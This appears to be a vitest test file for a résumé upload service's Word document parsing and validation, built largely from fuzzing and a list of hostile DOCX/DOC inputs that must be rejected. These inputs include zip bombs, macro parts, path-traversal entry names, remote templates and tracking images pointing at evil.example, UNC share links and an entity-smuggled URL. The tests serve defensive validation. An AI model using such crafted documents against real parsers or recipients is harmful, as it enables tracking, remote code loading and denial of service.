import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { inChunks, newStore, resume } from '../test-kit';
import { compoundOf, docOf, docxOf, MAIN, zipOf } from './test-kit';
import { isDocx, textOfWord } from './word';

const cv: typeof resume = { ...resume, accept: [...resume.accept, 'doc', 'docx'] };
const read = async (bytes: Buffer) => (await textOfWord(bytes))?.text;

describe('what can be read in a document', () => {
  test('a DOCX: lines, lists, boxes once; not what was struck out, nor where tabs stand', async () => {
    const bytes = docxOf(
      [
        'Ravi &amp; Rao &lt;ravi@rao.example&gt; &#x928;&#2350;',
        '</w:t><w:br/><w:tab/><w:delText>gone</w:delText><w:instrText>HYPERLINK</w:instrText><w:t>next',
        '</w:t><mc:AlternateContent><mc:Choice><w:t>box</w:t></mc:Choice><mc:Fallback><w:t>box</w:t></mc:Fallback></mc:AlternateContent><w:t>',
      ],
      [{ name: 'word/header1.xml', content: '<w:hdr><w:p><w:r><w:t>On top</w:t></w:r></w:p></w:hdr>' }],
    );
    expect(await read(bytes)).toBe('On top\n\nRavi & Rao <ravi@rao.example> नम\n\n\tnext\nbox');
  });

  test('a DOC: both kinds of pieces, cells as lines, of a link its words', async () => {
    const link = '\x13 HYPERLINK "http://a.example" \x13 PAGE \x14 7 \x15 \x14My site\x15';
    expect(await read(docOf(`Ravi Rao\x07Caf\xe9\r${link}\r`, 'पलवल\r'))).toBe(
      'Ravi Rao\nCafé\nMy site\nपलवल',
    );
  });

  test('no more than so much of it', async () => {
    for (const bytes of [
      docxOf(Array(30_000).fill('nine signs')),
      docOf('nine signs\r'.repeat(5_000).slice(0, 50_000)),
    ]) {
      const found = await textOfWord(bytes);
      expect(found?.text.length).toBeLessThanOrEqual(200_000);
    }
    expect(await textOfWord(docxOf(Array(30_000).fill('nine signs')))).toMatchObject({ isCut: true });
  });

  test('what is locked or without a word says so', async () => {
    const locked = docOf('secret');
    const at = locked.indexOf(Buffer.from([0xec, 0xa5]));
    locked.writeUInt16LE(0x0300, at + 0x0a);
    expect(await read(locked)).toBeUndefined();
    expect(await read(docxOf([]))).toBeUndefined();
  });

  test('whatever the bytes are: an answer, and at once', async () => {
    const whole = [docxOf(['Ravi Rao', 'Palwal']), docOf('Ravi Rao\r', 'पलवल\r')];
    const change = fc.record({
      of: fc.constantFrom(...whole),
      changes: fc.array(fc.tuple(fc.nat(6000), fc.nat(255)), { minLength: 1, maxLength: 8 }),
      cut: fc.nat(6000),
    });
    await fc.assert(
      fc.asyncProperty(change, async ({ of, changes, cut }) => {
        const bytes = Buffer.from(of);
        for (const [at, value] of changes) bytes[at % bytes.length] = value;
        const found = await textOfWord(bytes.subarray(0, Math.max(1, bytes.length - (cut % 3 ? 0 : cut))));
        expect(['string', 'undefined']).toContain(typeof found?.text);
      }),
      { numRuns: 500 },
    );
  });
});

const rels = (type: string, target: string) => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships><Relationship Id=">" Type='http://schemas.example/relationships/${type}' Target = "${target}" TargetMode="External"/></Relationships>`,
});
/** The same, as somebody else would call its tags. */
const named = (prefix: string, { name, content }: ReturnType<typeof rels>) => ({
  name,
  content: content.replaceAll('<Relationship ', `<${prefix}:Relationship `),
});
const hidden = {
  name: '_rels/.rels',
  content: `<!DOCTYPE a [<!ENTITY far "https:">]>${rels('image', '&far;//evil.example/a.png').content}`,
};
/** Half a megabyte in the post, two hundred when it is unpacked. */
const lists = Array.from({ length: 390 }, (_, n) => ({
  name: `word/_rels/${n}.xml.rels`,
  content: '<Relationship a="b"/>'.repeat(25_000),
}));
const MACROS = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const page = Buffer.concat([Buffer.alloc(20), Buffer.from('<script>alert(1)</script>')]);

function program() {
  const bytes = Buffer.alloc(5000);
  bytes.write('MZ');
  bytes.writeUInt32LE(128, 60);
  bytes.write('PE\0\0', 128);
  return bytes;
}

const overlapping = () => {
  const bytes = zipOf([
    { name: '[Content_Types].xml', content: 'x'.repeat(5000) },
    { name: 'word/document.xml', content: 'y'.repeat(5000) },
  ]);
  const first = bytes.indexOf('PK\x01\x02');
  bytes.writeUInt32LE(bytes.length * 4, first + 20);
  return bytes;
};

const hostile: [string, Buffer][] = [
  ['a plain archive', zipOf([{ name: 'cv.txt', content: 'CV' }])],
  ['an archive that is only called so', zipOf([{ name: 'word/document.xml', content: '<w:p/>' }])],
  [
    'a table of Excel',
    docxOf(['x'], [], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
  ],
  ['a document with macros', docxOf(['x'], [], MACROS)],
  ['a document with macros inside', docxOf(['x'], [{ name: 'word/vbaProject.bin', content: 'x' }])],
  ['a program of Java', docxOf(['x'], [{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: X' }])],
  ['names that lead out', docxOf(['x'], [{ name: '../../etc/cron.d/x', content: 'x' }])],
  [
    'forty thousand entries',
    docxOf(
      ['x'],
      Array.from({ length: 40_000 }, (_, n) => ({ name: `w/${n}`, content: '' })),
    ),
  ],
  [
    'a bomb that says so',
    docxOf(['x'], [{ name: 'word/media/a.bmp', content: '', says: 300 * 1024 * 1024 }]),
  ],
  [
    'a bomb that does not',
    zipOf([{ name: '[Content_Types].xml', content: Buffer.alloc(30_000_000), says: 500 }]),
  ],
  ['entries that overlap', overlapping()],
  ['the same name twice', docxOf(['x'], [{ name: 'WORD/document.xml', content: 'other' }])],
  ['something behind its end', Buffer.concat([docxOf(['x']), Buffer.from('<script>')])],
  ['something before its start', Buffer.concat([Buffer.from('PK\x03\x04junk'), docxOf(['x'])])],
  ['a template from afar', docxOf(['x'], [rels('attachedTemplate', '&#104;ttp://evil.example/a.dotm')])],
  ['an object from a share', docxOf(['x'], [rels('oleObject', '\\\\evil.example\\a')])],
  ['a picture from a share', docxOf(['x'], [rels('image', '\\/evil.example/a.png')])],
  ['a picture that tells who has opened it', docxOf(['x'], [rels('image', 'https://evil.example/a.png')])],
  ['a picture by another name', docxOf(['x'], [named('a-b.c', rels('image', 'https://evil.example/a.png'))])],
  ['names of its own', docxOf(['x'], [hidden])],
  [
    'macros in other letters',
    docxOf(['x'], [], `${MAIN}"/><Override PartName="/word/a.bin" ContentType="application/vba&#80;roject`),
  ],
  ['lists that are work without end', docxOf(['x'], lists)],
  ['a table of Excel, of old', compoundOf({ Workbook: Buffer.alloc(5000) })],
  ['a mail', compoundOf({ '__properties_version1.0': Buffer.alloc(5000) })],
  ['a document of old with macros', docOf('x', '', { Macros: undefined })],
  ['a document of old with a program', docOf('x', '', { ObjectPool: program() })],
  ['a document of old with a page', docOf('x').fill(page, 200, 200 + page.length)],
  ['a document of old that is cut off', docOf('x').subarray(0, 900)],
  ['a chain that never ends', docOf('x').fill(Buffer.from([1, 0, 0, 0]), 512 + 4, 512 + 8)],
];

describe('what is taken for a document', () => {
  it.each(hostile)('attack 19: refuses %s', async (_what, content) => {
    const { store, nothingLeft } = await newStore('disk');
    await expect(store.put(inChunks(content), cv)).rejects.toMatchObject({
      status: 415,
      message: 'Invalid file format. Please upload a PDF, JPG, or PNG.',
    });
    await nothingLeft();
  });

  it.each([
    ['a DOCX', docxOf(['Ravi Rao']), /\.docx$/, /wordprocessingml\.document$/],
    ['a DOC', docOf('Ravi Rao'), /\.doc$/, /^application\/msword$/],
    [
      'one with a template on its own disk',
      docxOf(['x'], [rels('attachedTemplate', 'file:///C:\\a.dotx')]),
      /\.docx$/,
      /document$/,
    ],
    ['one with a picture in it', docxOf(['x'], [rels('image', 'media/image1.png')]), /\.docx$/, /document$/],
    ['one with a link', docxOf(['x'], [rels('hyperlink', 'https://ravi.example')]), /\.docx$/, /document$/],
  ])('takes %s', async (_what, content, key, type) => {
    const { store } = await newStore('disk');
    expect(await store.put(inChunks(content), cv)).toMatchObject({
      key: expect.stringMatching(key),
      type: expect.stringMatching(type),
    });
    await expect(store.put(inChunks(content), resume)).rejects.toMatchObject({ status: 415 });
  });
});

test('attack 21: what is large when it is unpacked is unpacked one after the other, however many come at once', async () => {
  const looked: string[] = [];
  const look = async (name: string, bytes: Buffer) => {
    expect(await isDocx(bytes)).toBe(true);
    looked.push(name);
  };
  const large = docxOf(['<a/>'.repeat(2_000_000)]);
  await Promise.all([look('first', large), look('second', large), look('small', docxOf(['x']))]);
  expect(looked).toEqual(['first', 'second', 'small']);
});
